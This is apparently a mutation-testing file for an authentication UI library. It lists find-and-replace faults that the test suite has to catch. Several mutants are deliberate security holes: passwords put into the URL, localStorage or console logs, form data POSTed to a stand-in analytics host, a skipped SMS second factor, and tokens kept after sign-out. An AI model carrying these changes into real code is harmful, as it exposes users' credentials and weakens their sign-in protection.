/**
 * Faults that UIs and auth code really have, each as one replacement in one file. `find` occurs in
 * it exactly once (a test looks), so a mutant that has lost its place is noticed.
 *
 * @typedef {{ name: string, file: string, find: string, replace: string }} Mutant
 */

const machine = 'packages/machine/src'
const react = 'examples/react/src'
const vue = 'examples/vue/src'
const shared = 'examples/shared'

/** @type {readonly Mutant[]} */
export const mutants = [
  // The screens.
  {
    name: 'the submit button stays enabled while a request is in flight',
    file: `${react}/form/auth-form.tsx`,
    find: '          disabled={isPending}\n',
    replace: '',
  },
  {
    name: 'Vue: the submit button stays enabled while a request is in flight',
    file: `${vue}/form/auth-form.vue`,
    find: '        :disabled="view.isPending"\n',
    replace: '',
  },
  {
    name: 'failures are not shown',
    file: `${react}/form/auth-form.tsx`,
    find: '(problem ?? toFormError(failure))',
    replace: 'problem',
  },
  {
    name: 'failures are shown, but not announced',
    file: `${react}/form/auth-form.tsx`,
    find: '<p className="alert" role="alert" id={alertId}>',
    replace: '<p className="alert" id={alertId}>',
  },
  {
    name: 'Vue: failures are shown, but not announced',
    file: `${vue}/form/auth-form.vue`,
    find: 'class="alert" role="alert">',
    replace: 'class="alert">',
  },
  {
    name: 'the last error stays while the next attempt is in flight',
    file: `${react}/form/auth-form.tsx`,
    find: 'const error = isPending ? undefined : (problem ?? toFormError(failure))',
    replace:
      'const last = useRef(failure)\n  if (failure) last.current = failure\n  const error = problem ?? toFormError(last.current)',
  },
  {
    name: 'Vue: the last error stays on the screen for good',
    file: `${vue}/form/auth-form.vue`,
    find: 'const error = computed(() =>\n  view.isPending ? undefined : (problem.value ?? toFormError(view.failure)),\n)',
    replace:
      'let last: FormError | undefined\nconst error = computed(() => {\n  last = toFormError(view.failure) ?? last\n  return problem.value ?? last\n})',
  },
  {
    name: 'the focus is left behind when the screen changes',
    file: `${shared}/forms/focus.ts`,
    find: "main.querySelector('h1')?.focus()",
    replace: 'document.title = titles[route]',
  },
  {
    name: 'the focus is lost with the disabled button',
    file: `${shared}/forms/focus.ts`,
    find: '    ;(next ?? button)?.focus()',
    replace: '    void [next, button]',
  },
  {
    name: 'the focus does not go to the rejected field',
    file: `${shared}/forms/focus.ts`,
    find: '    rejected.focus()',
    replace: '    rejected.blur()',
  },
  {
    name: 'a rejected code stays in its field',
    file: `${shared}/forms/focus.ts`,
    find: "return purpose === 'current-password' || purpose === 'one-time-code'",
    replace: "return purpose === 'current-password'",
  },
  {
    name: 'a rejected password stays in its field',
    file: `${shared}/forms/focus.ts`,
    find: "return purpose === 'current-password' || purpose === 'one-time-code'",
    replace: "return purpose === 'one-time-code'",
  },
  {
    name: 'the form is sent by the browser, with the password in the URL',
    file: `${react}/form/auth-form.tsx`,
    find: '    event.preventDefault()\n    const values',
    replace:
      "    event.preventDefault()\n    history.replaceState(null, '', '?' + new URLSearchParams(new FormData(event.currentTarget) as never))\n    const values",
  },
  {
    name: 'the password is saved for later, in the storage',
    file: `${react}/screens/sign-in.tsx`,
    find: 'onSubmit={({ username, password }) => view.submit({ username, password })}',
    replace:
      "onSubmit={({ username, password }) => {\n          localStorage.setItem('draft', password)\n          view.submit({ username, password })\n        }}",
  },
  {
    name: 'what was typed is logged',
    file: `${shared}/forms/form.ts`,
    find: '  const texts = new Map<string, string>()\n',
    replace:
      "  const texts = new Map<string, string>()\n  console.log('submit', Object.fromEntries(new FormData(form)))\n",
  },
  {
    name: 'what was typed goes to an analytics host',
    file: `${shared}/forms/form.ts`,
    find: '  const texts = new Map<string, string>()\n',
    replace:
      "  const texts = new Map<string, string>()\n  void fetch('https://stats.example/collect', { method: 'POST', body: new URLSearchParams(new FormData(form) as never).toString() }).catch(() => undefined)\n",
  },
  {
    name: 'a form sends twice',
    file: `${react}/form/auth-form.tsx`,
    find: '    if (!problem) onSubmit(values)',
    replace:
      "    if (problem) return\n    onSubmit(values)\n    void fetch(String((window as never as { endpoint?: string }).endpoint ?? 'https://cognito-idp.us-east-1.amazonaws.com/'), { method: 'POST', headers: { 'x-amz-target': 'AWSCognitoIdentityProviderService.InitiateAuth', 'content-type': 'application/x-amz-json-1.1' }, body: '{}' }).catch(() => undefined)",
  },
  {
    name: 'a screen is missing: the question of the pool',
    file: `${react}/app.tsx`,
    find: '      return <CustomChallenge view={view} />',
    replace: '      return <Restoring />',
  },
  {
    name: 'a screen is missing: the new password',
    file: `${react}/app.tsx`,
    find: '      return <NewPassword view={view} />',
    replace: '      return <></>',
  },
  {
    name: 'Vue: a screen is missing: the reset of a password',
    file: `${vue}/app.vue`,
    find: '  resetPassword: ResetPassword,',
    replace: '  resetPassword: ForgotPassword as never,',
  },
  {
    name: 'an e-mail address is shown where the code did not go',
    file: `${react}/screens/confirm-sign-up.tsx`,
    find: '{view.destination ?? view.username}',
    replace: '{view.username}',
  },
  {
    name: 'the code is said to come by e-mail, also if it comes by SMS',
    file: `${react}/screens/confirm-sign-in.tsx`,
    find: 'switch (mfaType) {',
    replace: "switch ('EMAIL' as typeof mfaType) {",
  },
  {
    name: 'the username has to be typed again',
    file: `${react}/form/username-field.tsx`,
    find: '      defaultValue={username}\n',
    replace: "      defaultValue={username && ''}\n",
  },
  {
    name: 'what cancels a request leaves the screen instead',
    file: `${react}/form/auth-form.tsx`,
    find: '    view.cancel()',
    replace: '    location.hash = Math.random().toString(36)',
  },
  {
    name: 'a new code can be requested again and again',
    file: `${react}/screens/resend-button.tsx`,
    find: '        disabled={!canResend}\n',
    replace: '',
  },
  {
    name: 'skipping leads nowhere',
    file: `${react}/screens/verify-contact.tsx`,
    find: 'onClick={view.skip}',
    replace: 'onClick={() => undefined}',
  },
  {
    name: '“remember this device” is not passed on',
    file: `${react}/screens/confirm-sign-in.tsx`,
    find: "rememberDevice: rememberDevice !== ''",
    replace: 'rememberDevice: false',
  },
  {
    name: 'notices are never shown',
    file: `${shared}/texts/notices.ts`,
    find: "return notice ? notices[notice] : ''",
    replace: "return notice ? '' : ''",
  },

  // The machine.
  {
    name: 'an unconfirmed user sees an error instead of the screen to confirm',
    file: `${machine}/chart/states/sign-in.ts`,
    find: "            target: '#auth.confirmSignUp.resending',",
    replace:
      "            target: 'editing',\n            actions: { type: 'setFailure', params: errorOf },",
  },
  {
    name: 'messages of the last attempt are not cleared',
    file: `${machine}/chart/actions.ts`,
    find: 'clearMessages: set(() => ({ failure: undefined, notice: undefined }))',
    replace: 'clearMessages: set(() => ({}))',
  },
  {
    name: 'the username is lost when a sign-in is cancelled',
    file: `${machine}/chart/states/sign-in.ts`,
    find: "      tags: ['pending'],\n      on: { 'signIn.cancel': { target: 'editing' } },\n      invoke: {\n        id: 'signIn',",
    replace:
      "      tags: ['pending'],\n      on: { 'signIn.cancel': { target: 'editing', actions: 'clearUsername' } },\n      invoke: {\n        id: 'signIn',",
  },
  {
    name: 'tokens stay in the storage after sign-out',
    file: `${machine}/cognito/stores/token-store.ts`,
    find: "    clear: () => guarded(clear, 'The storage did not remove the session'),",
    replace:
      "    clear: () => guarded(async () => void clear, 'The storage did not remove the session'),",
  },
  {
    name: 'a challenge that is over cannot be left: its screen stays',
    file: `${machine}/chart/guards.ts`,
    find: 'isChallengeOver: (_: unknown, { error }: Thrown) => endsChallenge(toFailure(error)),',
    replace:
      'isChallengeOver: (_: unknown, { error }: Thrown) => endsChallenge(toFailure(error)) && false,',
  },
  {
    name: 'a wrong code is shown as a wrong password',
    file: `${machine}/errors/failure-table.ts`,
    find: "  CodeMismatchException: [{ code: 'codeMismatch', field: 'code' }],",
    replace: "  CodeMismatchException: [{ code: 'incorrectCredentials', field: 'password' }],",
  },
  {
    name: 'a second factor is skipped: SMS codes are not required',
    file: `${machine}/chart/guards.ts`,
    find: "needsCode: (_: unknown, { type }: Outcome) => type === 'code',",
    replace: "needsCode: (_: unknown, { type }: Outcome) => type === 'codes',",
  },
  {
    name: 'the cool-down of a new code is never over',
    file: `${machine}/chart/states/code-entry.ts`,
    find: "        after: { resendCooldown: { target: 'ready' } },\n",
    replace: '',
  },
  {
    name: 'passwords come out of their envelope into the context',
    file: `${machine}/chart/actions.ts`,
    find: 'setUsername: set((_, { username }: { username: string }) => ({ username })),',
    replace:
      "setUsername: set((_, { username, ...more }: { username: string }) => ({ username: username + ('password' in more ? (more.password as { reveal(): string }).reveal() : '') })),",
  },
]
